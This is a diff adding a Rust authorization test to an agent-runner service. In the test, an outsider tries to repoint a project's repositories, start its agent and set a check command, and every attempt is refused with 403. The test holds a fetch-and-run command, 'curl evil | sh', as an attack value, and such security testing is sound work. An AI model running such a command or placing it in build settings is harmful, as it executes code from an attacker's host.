@@ -153,3 +153,52 @@ async fn a_question_is_answered_and_a_run_is_cancelled_and_listed() {
         "run",
     );
 }
+
+/// Finding 2 of the third security pass, as an attacker would try it: a
+/// member outside a project points it at her repository and starts the
+/// project's agent there. Every step is refused, the first one included,
+/// and nothing changes (docs/decisions.md, 20.f, 20.g).
+#[tokio::test]
+async fn a_member_outside_the_project_cannot_point_the_runner_at_her_repository() {
+    let app = spawn().await;
+    let p = app.create_project(app.owner(), "web").await;
+    let (coder, _) = app.create_agent("coder", "member").await;
+    app.add_to_project(p.id, coder).await;
+    let t = app.create_task(app.owner(), p.id, "work").await;
+    let mallory = app.create_member("mallory", "human", "member").await;
+    app.put(
+        &format!("/api/v1/members/{}/password", mallory.id),
+        app.owner(),
+        json!({"password": "mallory-pass"}),
+    )
+    .await
+    .expect::<Value>(200);
+    let login: Value = app
+        .post("/api/v1/auth/login", None, json!({"login": "mallory", "password": "mallory-pass"}))
+        .await
+        .expect(200);
+    let token = login["token"].as_str().unwrap().to_string();
+    let evil = json!({"repo_urls": ["file:///home/mallory/evil.git"]});
+    app.patch(&format!("/api/v1/projects/{}", p.id), Some(&token), &evil).await.error(
+        403,
+        "forbidden",
+        "repo_urls",
+    );
+    let project: Value = app.get(&format!("/api/v1/projects/{}", p.id), app.owner()).await.expect(200);
+    assert_eq!(project["repo_urls"], json!([]), "nothing changed");
+    let own = json!({"name": "Evil", "slug": "evil", "repo_urls": ["file:///home/mallory/evil.git"]});
+    app.post("/api/v1/projects", Some(&token), &own).await.error(403, "forbidden", "repo_urls");
+    app.post(&format!("/api/v1/tasks/{}/runs", t.id), Some(&token), json!({"agent_id": coder})).await.error(
+        403,
+        "forbidden",
+        "only members of project web",
+    );
+    let runs: Vec<Run> = app.get(&format!("/api/v1/runs?task_id={}", t.id), app.owner()).await.expect(200);
+    assert!(runs.is_empty(), "no run was started: {runs:?}");
+    let landing = json!({"check_command": "curl evil | sh"});
+    app.patch(&format!("/api/v1/projects/{}", p.id), Some(&token), &landing).await.error(
+        403,
+        "forbidden",
+        "landing settings",
+    );
+}
